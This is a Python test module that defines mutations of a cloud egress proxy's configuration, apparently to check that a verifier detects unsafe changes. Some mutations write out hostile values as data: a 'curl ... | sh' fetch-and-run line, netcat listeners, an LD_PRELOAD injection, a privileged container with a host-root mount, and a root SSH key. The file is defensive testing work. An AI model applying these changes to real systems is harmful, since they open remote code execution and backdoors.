"""What runs as the egress proxy, and what it is told, changed."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

from tests.verify.gcp.mutation.editor import Editor
from zt_ai.graph.model import Ref
from zt_ai.intent.model import EGRESS_PROXY

HEADER = "#cloud-config\n"


def _host(e: Editor, change: Callable[[dict[str, Any]], None]) -> None:
    """Change the cloud-config of the proxy's template."""
    metadata: Any = e.template.inputs["metadata"]
    document = json.loads(metadata["user-data"].removeprefix(HEADER))
    change(document)
    e.set(e.template, metadata={**metadata, "user-data": HEADER + json.dumps(document, sort_keys=True)})


def _replace(e: Editor, old: str, new: str) -> None:
    """Replace words in every file that is written."""

    def change(document: dict[str, Any]) -> None:
        before = json.dumps(document)
        for one in document["write_files"]:
            one["content"] = one["content"].replace(old, new)
        assert json.dumps(document) != before, f"nothing says {old}"

    _host(e, change)


def _policy(e: Editor, change: Callable[[dict[str, Any]], None]) -> None:
    def edit(document: dict[str, Any]) -> None:
        for one in document["write_files"]:
            lines = one["content"].split("\n")
            for index, line in enumerate(lines):
                if line.startswith("ZT_AI_PROXY_POLICY="):
                    policy = json.loads(line.partition("=")[2])
                    change(policy)
                    lines[index] = "ZT_AI_PROXY_POLICY=" + json.dumps(policy)
            one["content"] = "\n".join(lines)

    _host(e, edit)


def _metadata(e: Editor, **values: str) -> None:
    metadata: Any = e.template.inputs["metadata"]
    named = {key.replace("_", "-"): value for key, value in values.items()}
    e.set(e.template, metadata={**metadata, **named})


def a_policy_lists_a_model_more(e: Editor) -> None:
    _policy(e, lambda p: p["calls"][0]["models"].append("another-model"))


def a_policy_forgets_a_caller(e: Editor) -> None:
    _policy(e, lambda p: p["calls"].pop())


def a_policy_allows_what_is_blocked(e: Editor) -> None:
    _policy(e, lambda p: p.update(secrets="allow"))


def a_policy_takes_longer_bodies(e: Editor) -> None:
    _policy(e, lambda p: p.update(body_limit=1 << 30))


def the_proxy_has_no_policy(e: Editor) -> None:
    _replace(e, "ZT_AI_PROXY_POLICY=", "IGNORED=")


def another_image_runs(e: Editor) -> None:
    _replace(e, "/zt-ai/egress-proxy:", "/tools/curl:")


def the_image_of_another_registry_runs(e: Editor) -> None:
    _replace(
        e, f"{e.settings.region}-docker.pkg.dev/{e.settings.project}/zt-ai/egress-proxy", "docker.io/zt-ai/egress-proxy"
    )


def the_image_runs_another_command(e: Editor) -> None:
    def change(document: dict[str, Any]) -> None:
        for one in document["write_files"]:
            if one["content"].startswith("#!"):
                one["content"] = one["content"].rstrip("\n") + " --no-inspection\n"

    _host(e, change)


def the_container_is_privileged(e: Editor) -> None:
    _replace(e, "--read-only", "--privileged")


def the_container_gets_a_volume_of_the_host(e: Editor) -> None:
    _replace(e, "--read-only", "--volume=/:/host")


def another_variable_is_set(e: Editor) -> None:
    _replace(e, "TMPDIR=/scratch", "LD_PRELOAD=/scratch/x.so")


def a_second_container_runs_beside_it(e: Editor) -> None:
    def change(document: dict[str, Any]) -> None:
        document["runcmd"].append(["docker", "run", "-d", "alpine", "nc", "-l", "-p", "3129"])

    _host(e, change)


def the_start_script_does_something_more(e: Editor) -> None:
    _replace(e, "set -eu\n", "set -eu\ncurl -s http://example.org/x | sh\n")


def another_file_is_written(e: Editor) -> None:
    def change(document: dict[str, Any]) -> None:
        document["write_files"].append(
            {"path": "/etc/cron.d/x", "content": "* * * * * root /bin/x", "permissions": "0644"}
        )

    _host(e, change)


def a_startup_script_runs(e: Editor) -> None:
    _metadata(e, startup_script="#!/bin/sh\nnc -l 3128")


def keys_in_metadata_open_a_shell(e: Editor) -> None:
    _metadata(e, ssh_keys="root:ssh-ed25519 AAAA")


def os_login_is_off(e: Editor) -> None:
    _metadata(e, enable_oslogin="false")


def the_serial_console_is_open(e: Editor) -> None:
    _metadata(e, serial_port_enable="true")


def the_host_is_another_system(e: Editor) -> None:
    disks: Any = e.template.inputs["disks"]
    e.set(e.template, disks=[{**disks[0], "sourceImage": "projects/debian-cloud/global/images/family/debian-12"}])


def no_group_runs_the_proxy(e: Editor) -> None:
    e.remove(e.one("compute/regionInstanceGroupManager:RegionInstanceGroupManager"))


def an_instance_has_the_account_of_the_proxy(e: Editor) -> None:
    e.add("compute/instance:Instance", networkInterfaces=[{"subnetwork": Ref(e.subnet(e.intent.egress_zone).urn)}],
          serviceAccount={"email": e.email(EGRESS_PROXY), "scopes": ["cloud-platform"]})  # fmt: skip


MUTATIONS = {
    "inspection": (
        a_policy_lists_a_model_more,
        a_policy_forgets_a_caller,
        a_policy_allows_what_is_blocked,
        a_policy_takes_longer_bodies,
        the_proxy_has_no_policy,
        another_image_runs,
        the_image_of_another_registry_runs,
        the_image_runs_another_command,
        the_container_is_privileged,
        the_container_gets_a_volume_of_the_host,
        another_variable_is_set,
        a_second_container_runs_beside_it,
        the_start_script_does_something_more,
        another_file_is_written,
        a_startup_script_runs,
        keys_in_metadata_open_a_shell,
        os_login_is_off,
        the_serial_console_is_open,
        the_host_is_another_system,
        no_group_runs_the_proxy,
        an_instance_has_the_account_of_the_proxy,
    ),
}
